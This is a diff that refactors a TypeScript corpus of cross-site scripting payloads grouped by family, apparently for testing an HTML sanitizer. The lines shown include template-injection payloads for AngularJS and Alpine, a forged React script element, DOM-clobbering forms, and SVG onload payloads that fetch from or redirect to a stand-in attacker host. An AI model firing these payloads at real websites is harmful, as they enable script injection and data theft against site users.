@@ -62,20 +62,9 @@ const templates = parted(`
 <div ng-app ng-csp><p ng-focus=${run} ng-init="x=${run}">{{x}}</p></div>¦<x x-data x-init=${run} :onclick=${run}>x</x>¦
 $&$\`$'$1${img}¦{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${run}"}}}
 `);
-const names = [
-  ...[
-    "document",
-    "location",
-    "forms",
-    "body",
-    "head",
-    "cookie",
-    "trustedTypes",
-    "getElementById",
-    "attributes",
-    "firstChild",
-  ],
-].map((name) => `<form id=${name} name=${name}><input id=${name} name=${name} value=${evil}></form>`);
+const names = "document location forms body head cookie trustedTypes getElementById attributes firstChild"
+  .split(" ")
+  .map((name) => `<form id=${name} name=${name}><input id=${name} name=${name} value=${evil}></form>`);
 const clobbers = [
   ...names,
   `<a id=assets href=${evil}/><a id=assets name=script href=${evil}/x.js>`,
@@ -101,35 +90,25 @@ const polyglots = [
   `<svg/onload=document.title='XSS'><svg/onload=location='${evil}/'><svg/onload=fetch('${evil}/')><svg/onload=print()>`,
 ];
 
-const family = (name: string, texts: readonly string[]): Payload[] => texts.map((text) => ({ family: name, text }));
+const families: Record<string, readonly string[]> = {
+  script: scripts,
+  handler: handlers.map((handler) => `<${handler}=${run}>`),
+  breakout: ends.map((end) => end + img),
+  attribute: attributeEnds.map((end) => `${end} onfocus=${run} autofocus tabindex=1 x=${end}`),
+  address: hostileUrls,
+  link: [...hostileUrls, ...entityUrls].map((url) => `<a href="${url.replaceAll('"', "&quot;")}">x</a>`),
+  mutation: mutations,
+  "leading away": leading,
+  style: styles,
+  "svg and math": svg,
+  htmx: [...htmx, ...htmxTags],
+  template: templates,
+  clobbering: clobbers,
+  letters,
+  polyglot: polyglots,
+};
 
 /** The corpus, without duplicates. */
-export const xssPayloads: readonly Payload[] = [
-  ...family("script", scripts),
-  ...family(
-    "handler",
-    handlers.map((handler) => `<${handler}=${run}>`),
-  ),
-  ...family(
-    "breakout",
-    ends.map((end) => end + img),
-  ),
-  ...family(
-    "attribute",
-    attributeEnds.map((end) => `${end} onfocus=${run} autofocus tabindex=1 x=${end}`),
-  ),
-  ...family("address", hostileUrls),
-  ...family(
-    "link",
-    [...hostileUrls, ...entityUrls].map((url) => `<a href="${url.replaceAll('"', "&quot;")}">x</a>`),
-  ),
-  ...family("mutation", mutations),
-  ...family("leading away", leading),
-  ...family("style", styles),
-  ...family("svg and math", svg),
-  ...family("htmx", [...htmx, ...htmxTags]),
-  ...family("template", templates),
-  ...family("clobbering", clobbers),
-  ...family("letters", letters),
-  ...family("polyglot", polyglots),
-];
+export const xssPayloads: readonly Payload[] = Object.entries(families).flatMap(([family, texts]) =>
+  texts.map((text) => ({ family, text })),
+);
